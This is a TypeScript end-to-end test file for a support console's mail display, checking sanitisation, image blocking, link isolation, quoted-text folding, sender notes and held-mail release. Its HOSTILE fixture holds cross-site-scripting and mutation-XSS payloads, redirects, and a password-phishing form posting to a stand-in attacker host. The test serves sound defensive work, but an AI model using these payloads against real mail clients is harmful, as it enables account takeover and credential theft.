import { beforeEach, describe, expect, it } from '@jest/globals';
import { createMessage, getMessageEmail, type Id, type IncomingMail } from '@parley/contracts';
import { eventually } from '@parley/testing';
import { messageId, readMails, receivingMailbox, sendMail, type TestMail } from '../arriving-mails.ts';
import { signIn, workspace } from './story.ts';
import { act, button, confirm, context, faults, looks, notified, page, row } from './tab.ts';

const EVIL = 'https://evil.example';
const IMAGE = 'https://images.example/banner.png';
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

/** URLs of other servers that anything on a page has asked for. */
const requested: string[] = [];
/** Addresses that a frame or a page has gone to. */
const visited: string[] = [];

beforeEach(async () => {
  requested.length = 0;
  visited.length = 0;
  await page.route(/^https?:\/\/[\w.]+\.example\//, async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ contentType: 'image/png', body: PIXEL });
  });
  page.removeAllListeners('framenavigated');
  page.on('framenavigated', (frame) => visited.push(frame.url()));
});

const html = (text: string): Pick<TestMail, 'fields' | 'body'> => ({
  fields: ['MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8'],
  body: text,
});

const HOSTILE = `<html><head>
<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/link.css"><style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/body.png) }</style>
</head><body onload="fetch('${EVIL}/onload')" background="${EVIL}/background.png">
<p style="position:fixed;inset:0;z-index:99999;background:url(${EVIL}/fixed.png)">My order 4711 is late.</p>
<xmp><img src="${EVIL}/xmp.png" onerror="alert(1)"></xmp>
<svg><style><img src="${EVIL}/svg.png" onerror="alert(2)"></style></svg>
<form action="${EVIL}/form"><input name="password" autofocus><button>Sign in again</button></form>
<script>top.location = '${EVIL}/script'; alert(3)</script>
<iframe src="${EVIL}/iframe"></iframe><object data="${EVIL}/object"></object><video src="${EVIL}/video" autoplay></video>
<a href="javascript:alert(4)">Track it</a> <a href="${EVIL}/page">Our shop</a>
<img src="${IMAGE}" alt="Banner" width="100" height="20">
</body></html>`;

async function deliver(mail: Partial<TestMail>): Promise<IncomingMail> {
  const mailbox = await receivingMailbox(workspace);
  await sendMail({ to: mailbox.address, ...mail });
  const [incoming] = await readMails(workspace.live, mailbox, 1);
  if (incoming === undefined) throw new Error('no mail has arrived');
  return incoming;
}

const frame = () => page.frameLocator('iframe[title^="Mail from"]');
const message = (text: string) => page.getByRole('listitem').filter({ hasText: text });

/** What this file uses of a page. */
interface StyledPage {
  getComputedStyle(node: unknown): { readonly position: string };
}

describe('a received mail', () => {
  it('with hostile HTML is shown inertly, and its images are loaded when that is asked for', async () => {
    const { conversation_id: id } = await deliver(html(HOSTILE));
    await signIn(`/conversations/${id}`);
    await frame().getByText('My order 4711 is late.').waitFor();
    await frame().getByRole('img', { name: 'Banner' }).waitFor();
    faults.push(...(await looks.look(page, 'console-mail')));
    expect(
      await frame()
        .locator('script, form, input, button, iframe, object, svg, video, meta[http-equiv=refresh]')
        .count(),
    ).toBe(0);
    expect(
      await frame()
        .getByText('My order 4711 is late.')
        .evaluate((node: unknown) => (globalThis as unknown as StyledPage).getComputedStyle(node).position),
    ).toBe('static');
    expect(requested).toEqual([]);

    await button('Load images').click();
    await frame().locator(`img[src="${IMAGE}"]`).waitFor();
    await eventually(() => expect(requested).toEqual([IMAGE]));
    faults.push(...(await looks.look(page, 'console-mail-with-images')));
    expect(requested).toEqual([IMAGE]);
    expect(visited.filter((url) => url.includes('.example'))).toEqual([]);
    await button('Load images').waitFor({ state: 'detached' });
  });

  it('opens its links in a page of their own', async () => {
    const { conversation_id: id } = await deliver(html(`<p>See <a href="${EVIL}/page">our shop</a>.</p>`));
    await context.route(`${EVIL}/page`, (route) => route.fulfill({ contentType: 'text/html', body: 'Shop' }));
    await signIn(`/conversations/${id}`);
    const [opened] = await Promise.all([context.waitForEvent('page'), frame().getByText('our shop').click()]);
    await opened.waitForURL(`${EVIL}/page`);
    expect(await opened.evaluate<unknown>('window.opener')).toBeNull();
    await opened.close();
    expect(new URL(page.url()).pathname).toMatch(new RegExp(`/console/conversations/${id}$`));
  });

  it('is shown as text, and what it quotes is folded until it is asked for', async () => {
    const first = messageId();
    const body =
      'It is still missing.\r\n\r\nOn Mon, 2 Nov 2026 at 10:00, Kim Lee <kim@desk.example> wrote:\r\n> It left on Friday.\r\n> Kim';
    const { conversation_id: id } = await deliver({ id: first, body });
    await signIn(`/conversations/${id}`);
    await message('It is still missing.').waitFor();
    expect(await page.getByText('It left on Friday.').count()).toBe(0);
    await button('Show quoted text').click();
    await page.getByText('It left on Friday.').waitFor();
    faults.push(...(await looks.look(page, 'console-mail-quote')));
    await button('Hide quoted text').click();
    await page.getByText('It left on Friday.').waitFor({ state: 'detached' });
  });

  it('says that nothing proves its sender, that they are no part of the conversation, and what a program sent', async () => {
    const mailbox = await receivingMailbox(workspace);
    await sendMail({ to: mailbox.address });
    const [mail] = await readMails(workspace.live, mailbox, 1);
    const params = { conversation_id: mail?.conversation_id as Id<'conversation'> };
    const body = { body: 'It is on its way.' };
    const { data: reply } = await workspace.live.ok(createMessage, { params, body });
    const sent = { ...params, message_id: reply.id };
    const id = await eventually(async () => {
      const { data } = await workspace.live.ok(getMessageEmail, { params: sent });
      const field = data.headers.find(({ name }) => name === 'message-id');
      if (field === undefined) throw new Error('the reply is not composed');
      return field.value;
    });
    const stranger = { to: mailbox.address, from: 'mallory@elsewhere.example' };
    await sendMail({
      ...stranger,
      subject: 'Re: Where is my order?',
      fields: [`In-Reply-To: ${id}`, 'Auto-Submitted: auto-replied'],
      body: 'I am away until Monday.',
    });
    await readMails(workspace.live, mailbox, 2);
    await signIn(`/conversations/${params.conversation_id}`);
    const notes = message('I am away until Monday.').getByRole('list', { name: 'About this mail' });
    await notes
      .getByText('mallory@elsewhere.example is not part of this conversation: replies do not go to them.')
      .waitFor();
    await notes.getByText(/^The sender’s address is not verified/).waitFor();
    await notes.getByText('Automatic: a program sent this, and nobody waits for an answer.').waitFor();
    faults.push(...(await looks.look(page, 'console-mail-notes')));
  });

  it('is downloaded as it arrived', async () => {
    const mailbox = await receivingMailbox(workspace);
    const source = await sendMail({ to: mailbox.address, body: 'Where is it?' });
    const [mail] = await readMails(workspace.live, mailbox, 1);
    const id = mail?.conversation_id;
    await signIn(`/conversations/${id}`);
    const [request] = await Promise.all([
      context.waitForEvent('request', (each) => each.url().includes('.eml?')),
      button('Download source').click(),
    ]);
    expect(await (await fetch(request.url())).text()).toBe(source);
  });
});

it('a mail that is held back is released, and another one discarded, by an admin', async () => {
  const mailbox = await receivingMailbox(workspace);
  const held = {
    to: mailbox.address,
    fields: Array.from({ length: 51 }, () => 'Received: from a.example by b.example'),
  };
  await sendMail({ ...held, subject: 'First', body: 'It went in circles.' });
  await sendMail({ ...held, subject: 'Second' });
  await readMails(workspace.live, mailbox, 2);
  await signIn('/channels?tab=incoming');
  await row('First').getByText('Held back').waitFor();
  await row('First').getByText('It went through more than 50 servers, as a mail in a loop does.').waitFor();
  faults.push(...(await looks.look(page, 'console-incoming-mails')));
  await act('Second', 'Discard');
  faults.push(...(await looks.look(page, 'console-discard-mail')));
  await confirm('Discard this mail?', 'Discard mail');
  await notified('The mail is discarded.');
  await row('Discarded').waitFor();
  await act('First', 'Release');
  await notified('The mail is released: it is a message soon.');
  await row('First').getByText('Delivered').waitFor();

  await button('Status').click();
  await page.getByRole('checkbox', { name: 'Discarded' }).check();
  await row('First').waitFor({ state: 'detached' });
  await page.getByRole('checkbox', { name: 'Delivered' }).check();
  await page.keyboard.press('Escape');
  await row('First').getByRole('link', { name: 'First' }).click();
  await message('It went in circles.').waitFor();
});
